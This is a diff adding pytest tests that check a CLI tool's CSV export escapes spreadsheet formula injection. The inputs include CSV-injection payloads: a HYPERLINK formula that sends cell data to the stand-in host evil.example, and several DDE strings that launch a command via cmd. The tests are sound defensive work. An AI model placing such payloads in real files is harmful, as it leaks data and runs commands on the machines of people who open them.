@@ -288,6 +288,45 @@ def test_list_as_json_jsonl_and_csv(env: FakePortkey, capsys: pytest.CaptureFixt
     assert set(rows[0]) == {"slug", "name", "ai_provider_name", "status", "created_at", "note"}
 
 
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        (f, "'" + f)
+        for f in (
+            '=HYPERLINK("https://evil.example/?"&A1,"open")',
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+        )
+    ]
+    # A leading tab or carriage return is a control character: escaped for the terminal, and
+    # then no longer first.
+    + [("\t=1+1", "\\x09=1+1"), ("\r=1+1", "\\x0d=1+1")],
+)
+def test_csv_cells_never_start_a_spreadsheet_formula(
+    env: FakePortkey, capsys: pytest.CaptureFixture[str], name: str, cell: str
+) -> None:
+    env.add_virtual_key("formula", name=name, note="=1+1")
+    code, out, _ = run_with(["list", "--csv"], capsys)
+    assert code == 0
+    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["slug"] == "formula")
+    # Shown as text, the apostrophe hidden by the spreadsheet; the JSON forms stay exact.
+    assert row["name"] == cell
+    assert row["note"] == "'=1+1"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    code, out, _ = run_with(["list", "--jsonl"], capsys)
+    assert [json.loads(line)["name"] for line in out.splitlines()][-1] == name
+
+
+def test_csv_leaves_ordinary_cells_alone(
+    env: FakePortkey, capsys: pytest.CaptureFixture[str]
+) -> None:
+    env.add_virtual_key("plain", name="a=b", note="cost: -5 % (was +3)")
+    _, out, _ = run_with(["list", "--csv"], capsys)
+    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["slug"] == "plain")
+    assert (row["name"], row["note"]) == ("a=b", "cost: -5 % (was +3)")
+
+
 def test_list_of_nothing(env: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
     env.remove_virtual_key("openai-prod")
     assert run_with(["list"], capsys)[:2] == (0, "(no virtual keys)\n")
